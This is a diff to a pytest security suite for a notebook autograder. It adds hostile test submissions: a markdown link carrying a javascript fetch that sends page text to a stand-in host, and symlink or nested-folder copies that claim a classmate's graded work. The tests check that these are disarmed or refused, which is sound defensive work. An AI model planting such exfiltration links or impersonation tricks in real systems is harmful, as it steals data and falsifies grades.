@@ -73,6 +73,15 @@ def _with_marker(cells):
     cells.insert(0, {"cell_type": "markdown", "metadata": {}, "source": f"My notes: {MARKER}"})
 
 
+# A link that would send the page's text elsewhere: markdown's own syntax becomes an <a href> only when nbconvert
+# renders the feedback page, after the markdown source was cleaned.
+LINK_OUT = "[my write-up](javascript:fetch('https://example.invalid/?'+document.body.innerText))"
+
+
+def _with_link_out(cells):
+    cells.insert(0, {"cell_type": "markdown", "metadata": {}, "source": f"Read {LINK_OUT} first."})
+
+
 # What a student who reads /proc and the package would try, from anywhere its code runs.
 LOOT = f'''
 import glob, os, re, shutil
@@ -154,7 +163,7 @@ CORPUS = {
                                "display(HTML('<script>alert(1)</script>' + 'z' * 50_000_000))"]),
     "orphans": dict(module=_replace(ENV_LINE, "    " + SPAWN.replace("\n", "\n    ") + "\n" + ENV_LINE),
                     extra_cells=[SPAWN]),
-    "read-everything": dict(module=LOOT + SOLUTION, extra_cells=[LOOT]),
+    "read-everything": dict(module=LOOT + SOLUTION, extra_cells=[LOOT], edit=_with_link_out),
     "outlive": dict(module=DAEMON + SOLUTION, extra_cells=[DAEMON]),
     "persist": dict(module=PERSIST + BLANK, extra_cells=[PERSIST]),
     "disk-filler": dict(module=SOLUTION, extra_cells=[FILL_DISK]),
@@ -165,6 +174,29 @@ CORPUS = {
                                      "autograder.check = autograder.harness.check = lambda *a, **k: print('PASS')"]),
     "tampered-tests": dict(module=SOLUTION, edit=_tamper_with_tests),
 }
+
+
+def _impersonators(subs: Path, release_nb: Path) -> None:
+    """Submissions that claim a classmate's name or work through the folder's shape (graded in no one's name):
+    - impostor: its own (blank) notebook, and a full-marks copy at impostor/honest/mini/mini.ipynb, nested where the
+      path's last folders name the classmate (it used to be graded as honest's, and sort after the real one);
+    - linker: mini.ipynb is a symbolic link to honest's notebook (git-based collection keeps links);
+    - folder-linker: its mini folder is a link to honest's folder."""
+    notebook = f"{gc.ASSIGNMENT}.ipynb"
+    own = subs / "impostor" / gc.ASSIGNMENT
+    own.mkdir(parents=True)
+    (own / notebook).write_text(json.dumps(gc.submission(release_nb)))
+    nested = subs / "impostor" / "honest" / gc.ASSIGNMENT
+    nested.mkdir(parents=True)
+    (nested / notebook).write_text(json.dumps(gc.submission(release_nb, SOLUTION)))
+    (subs / "linker" / gc.ASSIGNMENT).mkdir(parents=True)
+    (subs / "linker" / gc.ASSIGNMENT / notebook).symlink_to(subs / "honest" / gc.ASSIGNMENT / notebook)
+    (subs / "folder-linker").mkdir()
+    (subs / "folder-linker" / gc.ASSIGNMENT).symlink_to(subs / "honest" / gc.ASSIGNMENT, target_is_directory=True)
+
+
+IMPERSONATORS = {"impostor": "is not where a submission goes", "linker": "is a symbolic link",
+                 "folder-linker": "is a symbolic link"}
 
 
 @pytest.fixture(scope="module")
@@ -188,6 +220,7 @@ def mini(tmp_path_factory):
             folder.mkdir(parents=True)
             nb = gc.submission(release_nb, case.get("module"), case.get("extra_cells", []), case.get("edit"))
             (folder / f"{gc.ASSIGNMENT}.ipynb").write_text(json.dumps(nb))
+        _impersonators(subs, release_nb)
         yield dict(root=root, subs=subs, tmp=tmp, tag=tag)
     finally:
         for k, v in saved.items():
@@ -234,7 +267,7 @@ def page(graded, student: str) -> str:
 
 
 def test_every_submission_has_a_row_and_nothing_outlives_grading(graded):
-    assert set(graded["rows"]) == set(CORPUS)
+    assert set(graded["rows"]) == set(CORPUS) | set(IMPERSONATORS)
     assert graded["leftovers"] == [] and graded["daemons"] == []
     print(f"corpus of {len(CORPUS)} graded in {graded['seconds']:.0f} s with --jobs 2")
 
@@ -274,7 +307,29 @@ def test_nothing_of_a_classmate_reaches_an_attacker_and_no_page_carries_a_script
             assert MARKER not in page(graded, student), student
             assert MARKER not in (out / "records" / student / "mini.json").read_text()
         assert "<script>alert" not in page(graded, student), student   # its source shows escaped: &lt;script&gt;
+        assert 'http-equiv="Content-Security-Policy"' in page(graded, student), student
     assert "LOOT" in page(graded, "read-everything")   # it ran, and found nothing to print
+    link_page = page(graded, "read-everything").lower()
+    assert "my write-up" in link_page and 'href="javascript' not in link_page   # the link is shown, unarmed
+
+
+@pytest.mark.parametrize("student, words", IMPERSONATORS.items())
+def test_a_submission_is_graded_only_in_its_top_level_name(graded, student, words):
+    """Nested copies and links are refused with a flag naming them; the classmate they name keeps full marks."""
+    row = graded["rows"][student]
+    assert points(row) == (0, 0, 0) and "needs manual grading" in row["flags"] and words in row["flags"], row
+    assert points(graded["rows"]["honest"]) == (1, 1, 1)
+    assert graded["rows"]["honest"]["flags"] == ""
+
+
+def test_feedback_pages_leave_the_hidden_tests_out(graded):
+    """The test cells read as released; a line says that hidden tests ran there, with the score."""
+    hidden = 'check("torchrun.env", world_size=3)'
+    assert hidden in (graded["root"] / "source/mini/mini.ipynb").read_text()
+    for student in ("honest", "blank"):
+        text = page(graded, student)
+        assert hidden.replace('"', "&quot;") not in text and hidden not in text, student
+        assert "Hidden tests of the instructor also ran in this cell" in text, student
 
 
 def test_the_grader_and_the_course_are_unchanged(graded):
